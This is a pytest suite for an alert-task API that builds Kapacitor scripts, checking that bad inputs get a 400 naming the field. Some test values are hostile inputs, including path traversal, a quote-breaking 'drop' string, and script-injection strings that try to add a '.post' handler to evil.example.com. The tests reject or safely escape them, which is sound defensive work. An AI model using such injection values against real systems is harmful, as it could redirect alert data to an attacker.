"""Every bad input of the original's matrix is a 400 naming the field, and reaches no Kapacitor."""

import pytest

from tests.support.api import post_json

MEMORY = {"app": "shop", "dynotype": "web", "warn": "200", "crit": "500", "window": "12h", "every": "1m",
          "slack": "#shop"}  # fmt: skip

BAD_REQUESTS = [
    ("/task/5xx", {"tolerance": "low", "slack": "#a"}, "app", "app is required"),
    ("/task/5xx", {"app": "", "tolerance": "low", "slack": "#a"}, "app", "app is required"),
    ("/task/crashed", {"slack": "#a"}, "app", "app is required"),
    ("/task/release", {"app": "shop"}, "slack", "at least one of slack, email or post is required"),
    ("/task/5xx", {"app": "shop", "tolerance": "low", "slack": "", "email": " ", "post": ""}, "slack", "at least one"),
    ("/task/5xx", {"app": "shop", "slack": "#a"}, "tolerance", "tolerance must be one of low, medium, high"),
    ("/task/5xx", {"app": "shop", "tolerance": "extreme", "slack": "#a"}, "tolerance", "tolerance must be one of"),
    ("/task/5xx", {"app": "shop", "tolerance": 1, "slack": "#a"}, "tolerance", "tolerance must be a string"),
    ("/task/memory", {**MEMORY, "warn": ""}, "warn", "warn must be a non-negative number of MB"),
    ("/task/memory", {**MEMORY, "crit": "lots"}, "crit", "crit must be a non-negative number of MB"),
    ("/task/memory", {**MEMORY, "crit": -5}, "crit", "crit must be a non-negative number of MB"),
    ("/task/memory", {**MEMORY, "crit": True}, "crit", "crit must be a non-negative number of MB"),
    ("/task/memory", {**MEMORY, "window": "12 hours"}, "window", "window must be a duration like 30s"),
    ("/task/memory", {**MEMORY, "every": "1"}, "every", "every must be a duration"),
    ("/task/memory", {**MEMORY, "dynotype": ""}, "dynotype", "dynotype is required"),
    ("/task/memory", {k: v for k, v in MEMORY.items() if k != "dynotype"}, "dynotype", "dynotype is required"),
    ("/task/memory", {**MEMORY, "dynotype": "web/../x"}, "dynotype", "dynotype may contain only letters"),
    # Ids of different tasks must never meet: shop-sample.memory_total-x-5xx could be either.
    ("/task/memory", {**MEMORY, "dynotype": "x-5xx"}, "dynotype", "dynotype may contain only letters, digits and '_'"),
    ("/task/5xx", {"app": "a-sample.memory_total", "tolerance": "low", "slack": "#a"}, "app", "must not contain"),
    ("/task/5xx", {"app": "shop²", "tolerance": "low", "slack": "#a"}, "app", "app may contain only letters"),
    ("/task/5xx", {"app": "my app", "tolerance": "low", "slack": "#a"}, "app", "app may contain only letters"),
    ("/task/5xx", {"app": 'x"; drop', "tolerance": "low", "slack": "#a"}, "app", "app may contain only letters"),
    ("/task/release", {"app": "x')\n|alert()", "slack": "#a"}, "app", "app must not contain control characters"),
    ("/task/crashed", {"app": "shop", "email": "not-an-address"}, "email", "is not an email address"),
    ("/task/crashed", {"app": "shop", "post": "ftp://example.com/x"}, "post", "post must be an http(s) URL"),
    ("/task/crashed", {"app": "shop", "slack": "#a\nb"}, "slack", "slack must not contain control characters"),
    ("/task/5xx", "not json", "body", "Body is not valid JSON"),
    ("/task/5xx", "", "body", "Body is not valid JSON"),
    ("/task/5xx", [1, 2], "body", "Body must be a JSON object"),
]


@pytest.mark.parametrize(("url", "body", "field", "message"), BAD_REQUESTS)
def test_bad_input_is_a_400_naming_the_field(
    operator, fake_kapacitor, url, body, field, message, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True) as queued:
        response = post_json(operator, url, body)
    assert response.status_code == 400, response.content
    assert response.json()["field"] == field
    assert message in response.json()["error"]
    assert queued == []
    assert fake_kapacitor.requests == []


def test_duplicate_post_is_a_400(operator, fake_kapacitor, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        assert post_json(operator, "/task/memory", MEMORY).status_code == 201
    writes = fake_kapacitor.writes()
    with django_capture_on_commit_callbacks(execute=True) as queued:
        response = post_json(operator, "/task/memory", MEMORY)
    assert queued == []
    assert response.status_code == 400
    assert response.json() == {"error": "task shop-sample.memory_total-web already exists", "field": "app"}
    assert fake_kapacitor.writes() == writes


def test_patch_or_delete_of_a_missing_task_is_a_404(operator, fake_kapacitor):
    patch = operator.patch("/task/5xx", '{"app": "nope", "tolerance": "low"}', content_type="application/json")
    assert patch.status_code == 404 and patch.json() == {"error": "no 5xx alert task for nope"}
    assert operator.delete("/task/release/nope").json() == {"error": "No release alert task for nope"}
    assert operator.get("/tasks/memory/nope/web").status_code == 404
    assert operator.get("/task/5xx/nope/state").status_code == 404
    assert fake_kapacitor.requests == []


def test_patch_that_breaks_a_rule_is_a_400_and_changes_nothing(operator, fake_kapacitor):
    assert post_json(operator, "/task/5xx", {"app": "shop", "tolerance": "low", "slack": "#a"}).status_code == 201
    response = operator.patch("/task/5xx", '{"app": "shop", "slack": ""}', content_type="application/json")
    assert response.status_code == 400 and response.json()["field"] == "slack"
    assert operator.get("/task/5xx/shop").json()["slack"] == "#a"


def test_a_value_can_never_alter_the_script(operator, fake_kapacitor, django_capture_on_commit_callbacks):
    slack = "#x')\n        .post('http://evil.example.com"
    hostile = "#x') .post('http://evil.example.com/') .channel('\\"
    with django_capture_on_commit_callbacks(execute=True):
        assert post_json(operator, "/task/crashed", {"app": "shop", "slack": slack}).status_code == 400
        created = post_json(operator, "/task/crashed", {"app": "shop", "slack": hostile})
    assert created.status_code == 201 and created.json()["slack"] == hostile
    script = fake_kapacitor.tasks["shop-crash"]["script"]
    # The whole value sits inside one escaped string literal: no handler was added.
    assert [line.split("(")[0].strip() for line in script.splitlines() if line.startswith("        .")][-4:] == [
        ".slack",
        ".channel",
        ".message",
        ".details",
    ]
    assert "        .channel('#x\\') .post(\\'http://evil.example.com/\\') .channel(\\'\\\\')\n" in script
